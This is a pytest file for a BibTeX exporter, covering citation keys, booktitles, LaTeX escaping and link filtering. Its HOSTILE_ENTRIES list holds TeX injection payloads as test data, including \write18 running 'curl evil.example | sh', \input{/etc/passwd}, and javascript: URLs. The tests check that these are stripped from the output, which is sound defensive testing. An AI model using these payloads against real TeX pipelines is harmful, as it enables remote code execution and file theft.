"""BibTeX: a correct @inproceedings written from the index's fields (OpenReview's entry lends only a safe key,
booktitle and year, never its text); every export is read back by bibtexparser (and its titles and authors by
pylatexenc, as LaTeX would print them)."""

from __future__ import annotations

import random
from pathlib import Path
from typing import cast

import pytest

from bot.papers import index
from bot.papers.row import PaperRow
from bot.search.reader import Papers
from bot.team import bibtex
from tests.team.bibparse import parse_bibtex

TOKSUITE_ENTRY = """@inproceedings{smith2026toksuite,
  title = {{TokSuite}: Measuring Tokenizer Robustness in {LLMs}},
  author = {Jane Smith and Ada Lovelace},
  booktitle = {Proceedings of the 43rd International Conference on Machine Learning},
  year = {2026},
  url = {https://openreview.net/forum?id=hostile_02}
}"""

OPENREVIEW_ENTRY = """@inproceedings{
smith2026toksuite,
title={TokSuite: Measuring Tokenizer Robustness in {LLM}s},
author={Jane Smith and Ada Lovelace},
booktitle={Forty-third International Conference on Machine Learning},
year={2026},
url={https://openreview.net/forum?id=hostile_02}
}"""


def all_papers(path: Path) -> list[PaperRow]:
    """Every paper of an index, in load order."""
    db = index.connect(path, readonly=True)
    try:
        return [index.decode(row) for row in db.query("SELECT * FROM papers ORDER BY seq")]
    finally:
        db.conn.close()


def by_source(papers: Papers, *source_ids: str) -> list[PaperRow]:
    found = [papers.get(s) for s in source_ids]
    assert None not in found
    return [p for p in found if p is not None]


def test_every_paper_of_the_index_reads_back_with_its_title_and_authors(team_index_path: Path) -> None:
    papers = all_papers(team_index_path)
    assert len(papers) == 19 + 7 + 200
    entries = parse_bibtex(bibtex.bibliography(papers))
    assert len(entries) == len(papers)
    assert len({e.key for e in entries}) == len(entries)
    for paper, entry in zip(papers, entries, strict=True):
        assert entry.kind == "inproceedings"
        assert entry.title == " ".join(paper["title"].split())
        assert entry.authors == paper["authors"]
        assert entry.fields["year"] == "2026"


def test_a_paper_without_openreviews_entry_gets_a_full_inproceedings(papers: Papers) -> None:
    (tok,) = by_source(papers, "hostile02")
    assert bibtex.bibliography([tok]) == TOKSUITE_ENTRY + "\n\n"


def test_keys_are_surname_year_and_first_significant_title_word(papers: Papers) -> None:
    ids = ["hostile01", "hostile02", "hostile04", "hostile05", "hostile06", "hostile07"]
    keys = [e.key for e in parse_bibtex(bibtex.bibliography(by_source(papers, *ids)))]
    assert keys == [
        "kaiser2026attention",  # Łukasz Kaiser
        "smith2026toksuite",
        "anon2026strange",  # 张伟 has no ASCII letters; "A" is not significant
        "person2026formula",  # numbers and "Is Not a" are skipped
        "jones2026circuits",  # ʻŌiwi Parker Jones
        "schmidhuber2026role",  # Jürgen Schmidhuber; "The" skipped
    ]


def test_clashing_keys_get_suffixes_in_paper_id_order_whatever_the_export_order(papers: Papers) -> None:
    tok, revisited = by_source(papers, "hostile02", "hostile03")
    first, second = sorted([tok, revisited], key=lambda p: p["id"])
    expected = {first["id"]: "smith2026toksuite", second["id"]: "smith2026toksuitea"}
    for order in ([tok, revisited], [revisited, tok]):
        keys = [e.key for e in parse_bibtex(bibtex.bibliography(order))]
        assert dict(zip([p["id"] for p in order], keys, strict=True)) == expected


def test_keys_are_the_same_on_every_run_and_in_every_order(team_index_path: Path) -> None:
    papers = all_papers(team_index_path)
    keyed = dict(zip([p["id"] for p in papers], bibtex.unique_keys(papers), strict=True))
    shuffled = papers[:]
    random.Random(7).shuffle(shuffled)
    assert dict(zip([p["id"] for p in shuffled], bibtex.unique_keys(shuffled), strict=True)) == keyed
    # The 200 plain papers share "Person", 2026 and "Ordinary": suffixes go a … z, aa, ab … in paper-id order.
    plain = sorted(p["id"] for p in papers if p["title"].startswith("Ordinary Paper"))
    assert [keyed[i] for i in plain[:3]] == ["person2026ordinary", "person2026ordinarya", "person2026ordinaryb"]
    assert [keyed[i] for i in plain[26:29]] == ["person2026ordinaryz", "person2026ordinaryaa", "person2026ordinaryab"]
    assert keyed[plain[-1]] == "person2026ordinarygq"  # the 199th suffix: 7 * 26 + 17


def test_many_clashes_and_a_suffix_that_is_another_papers_key() -> None:
    same = [{"id": f"p{n}", "title": "Scaling", "authors": ["Ann Lee"], "year": 2026} for n in range(4)]
    # Its own key: lee2026scalinga
    natural = {"id": "p9", "title": "Scalinga", "authors": ["Ann Lee"], "year": 2026}
    assert bibtex.unique_keys([*same, natural]) == [
        "lee2026scaling",
        "lee2026scalingb",
        "lee2026scalingc",
        "lee2026scalingd",
        "lee2026scalinga",
    ]


def test_openreviews_entry_lends_its_key_and_booktitle_and_is_rekeyed_only_on_a_clash(papers: Papers) -> None:
    tok, revisited = by_source(papers, "hostile02", "hostile03")
    tok = {**tok, "bibtex": OPENREVIEW_ENTRY}
    assert (
        bibtex.bibliography([tok])
        == TOKSUITE_ENTRY.replace(
            "Proceedings of the 43rd International Conference on Machine Learning",
            "Forty-third International Conference on Machine Learning",
        )
        + "\n\n"
    )
    entries = parse_bibtex(bibtex.bibliography([tok, revisited]))
    assert entries[0].fields["booktitle"] == "Forty-third International Conference on Machine Learning"
    assert sorted(e.key for e in entries) == ["smith2026toksuite", "smith2026toksuitea"]


# A list's `bibtex` field that tries to run TeX, read files or link elsewhere (reproduced from issue 39).
HOSTILE_ENTRIES = [
    "@inproceedings{smith2026toksuite, title={\\input{/etc/passwd}}, author={Eve}, year={2026}, "
    "booktitle={\\immediate\\write18{curl evil.example | sh}}, url={javascript:alert(1)}}",
    "@misc{pwn, title={x}, note={\\input{/etc/passwd}}, howpublished={\\url{javascript:alert(1)}}, year=2026}",
    "@inproceedings{a, booktitle={{\\catcode`\\^^M=13}Proceedings}, year={20\\jobname}}",
    '@inproceedings{b, booktitle="Proc $\\def\\x{1}$", year={2026}}',
    "@inproceedings{c\\input, booktitle={Plain}}",
    "@inproceedings{d, booktitle={javascript:alert(1)} # {x}}",
]


@pytest.mark.parametrize("hostile", HOSTILE_ENTRIES)
def test_a_hostile_entry_never_reaches_the_file(papers: Papers, hostile: str) -> None:
    (tok,) = by_source(papers, "hostile02")
    text = bibtex.bibliography([{**tok, "bibtex": hostile}])
    for bad in ("\\input", "\\immediate", "\\write18", "javascript:", "\\url", "\\catcode", "\\def", "\\jobname"):
        assert bad not in text
    (entry,) = parse_bibtex(text)
    assert entry.title == "TokSuite: Measuring Tokenizer Robustness in LLMs"
    assert entry.authors == ["Jane Smith", "Ada Lovelace"]
    # Nothing of the list's own
    assert set(entry.fields) == {"title", "author", "booktitle", "year", "url"}
    assert entry.fields["url"] == "https://openreview.net/forum?id=hostile_02"
    assert entry.fields["booktitle"] == "Proceedings of the 43rd International Conference on Machine Learning"


def test_only_a_plain_key_booktitle_and_year_are_taken_from_an_entry(papers: Papers) -> None:
    (tok,) = by_source(papers, "hostile02")
    lent = '@InProceedings{ Lee:2026.x, booktitle = "The {ICML} 2026 Workshop on Trust", year = 2025, note={n} }'
    (entry,) = parse_bibtex(bibtex.bibliography([{**tok, "year": None, "bibtex": lent}]))
    assert (entry.key, entry.fields["booktitle"], entry.fields["year"]) == (
        "Lee:2026.x",
        "The ICML 2026 Workshop on Trust",
        "2025",
    )
    assert "note" not in entry.fields


@pytest.mark.parametrize(
    "broken",
    [
        "@inproceedings{smith2026toksuite, title={Unclosed}",  # braces do not pair up
        "title={No entry type}",
        "@inproceedings{a, title={One}}\n@inproceedings{b, title={Two}}",  # two entries
        "",
    ],
)
def test_a_broken_openreview_entry_is_replaced_by_a_written_one(papers: Papers, broken: str) -> None:
    (tok,) = by_source(papers, "hostile02")
    assert bibtex.bibliography([{**tok, "bibtex": broken}]) == TOKSUITE_ENTRY + "\n\n"


HOSTILE_TEXT = [
    "Set {x} costs $5 \\ 50% of #1 a_b ~c ^d & more",
    "A } strange { title",  # braces that do not pair up
    "}{",
    "Ünïcödé Titles — Kept: “as” UTF-8 … ½",
    "Braces {{nested {deep}}} and \\{escaped\\}",
]


@pytest.mark.parametrize("title", HOSTILE_TEXT)
def test_latex_specials_in_titles_and_names_survive_a_real_parser(title: str) -> None:
    paper = cast(  # only the columns an entry is made of
        PaperRow,
        {
            "id": "x1",
            "title": title,
            "authors": ["Łukasz Kaiser", f"José {title} García", "Smith, Jr.", "Bob and Alice Co", "O'Neil & Sons_ #2"],
            "conference": "ICML",
            "year": 2026,
            "url": "https://openreview.net/forum?id=a_b#x",
        },
    )
    text = bibtex.bibliography([paper])
    (entry,) = parse_bibtex(text)
    assert entry.title == " ".join(title.split())
    assert entry.authors == [" ".join(a.split()) for a in paper["authors"]]
    assert entry.fields["url"] == "https://openreview.net/forum?id=a_b#x"
    assert "Łukasz Kaiser" in text  # non-ASCII stays UTF-8
    depth = 0
    for c in text:  # BibTeX itself counts every brace, escaped or not
        depth += {"{": 1, "}": -1}.get(c, 0)
        assert depth >= 0
    assert depth == 0


def test_escaping_literally() -> None:
    assert bibtex.escape("a & b % c $ d # e _ f ~ g ^ h \\ i {j}") == (
        r"a \& b \% c \$ d \# e \_ f \textasciitilde{} g \textasciicircum{} h \textbackslash{} i \{j\}"
    )
    assert bibtex.escape("a } b {") == r"a \textbraceright{} b \textbraceleft{}"
    assert bibtex.title_field("TokSuite: GPT-4 (vLLM), a Study of LLMs") == (
        "{TokSuite}: {GPT-4} ({vLLM}), a Study of {LLMs}"
    )
    assert bibtex.name_field("Smith, Jr.") == "{Smith, Jr.}"
    assert bibtex.name_field("Bob AND Alice") == "{Bob AND Alice}"
    assert bibtex.name_field("Alexander Andersson") == "Alexander Andersson"


@pytest.mark.parametrize(
    ("conference", "year", "track", "session", "expected"),
    [
        ("ICML", 2026, "main", None, "Proceedings of the 43rd International Conference on Machine Learning"),
        ("ICML", 2024, None, None, "Proceedings of the 41st International Conference on Machine Learning"),
        ("ICML", 2025, "position", None, "Proceedings of the 42nd International Conference on Machine Learning"),
        ("ICML", 1994, None, None, "Proceedings of the 11th International Conference on Machine Learning"),
        ("ICLR", 2026, None, None, "The 14th International Conference on Learning Representations"),
        ("NeurIPS", 2025, None, None, "Advances in Neural Information Processing Systems"),
        ("CoRL", 2026, None, None, "CoRL 2026"),
        ("ICML", 2026, "workshop", "Workshop on Mechanistic Interpretability", None),
        ("ICML", 2026, "workshop", None, "ICML 2026 Workshops"),
    ],
)
def test_booktitle(conference: str, year: int, track: str | None, session: str | None, expected: str | None) -> None:
    paper = {"conference": conference, "year": year, "track": track, "session": session}
    if expected is None:
        expected = "Workshop on Mechanistic Interpretability at ICML 2026"
    assert bibtex.booktitle(paper) == expected


def test_a_workshop_paper_names_its_workshop(papers: Papers) -> None:
    (entry,) = parse_bibtex(bibtex.bibliography(by_source(papers, "hostile06")))
    assert entry.fields["booktitle"] == "Workshop on Mechanistic Interpretability at ICML 2026"


def test_a_paper_without_a_conference_is_misc_and_one_without_authors_has_no_author_field() -> None:
    (entry,) = parse_bibtex(bibtex.bibliography([{"id": "z", "title": "Lonely", "year": 2025}]))
    assert (entry.kind, entry.key, entry.fields) == ("misc", "anon2025lonely", {"title": "Lonely", "year": "2025"})


def test_only_web_links_go_in() -> None:
    paper = {"id": "u", "title": "Links", "conference": "ICML", "year": 2026, "url": "javascript:alert(1)"}
    assert "url" not in parse_bibtex(bibtex.bibliography([paper]))[0].fields
    paper["url"] = "https://example.org/a b{c}\\d"
    assert parse_bibtex(bibtex.bibliography([paper]))[0].fields["url"] == "https://example.org/a%20b%7Bc%7D%5Cd"
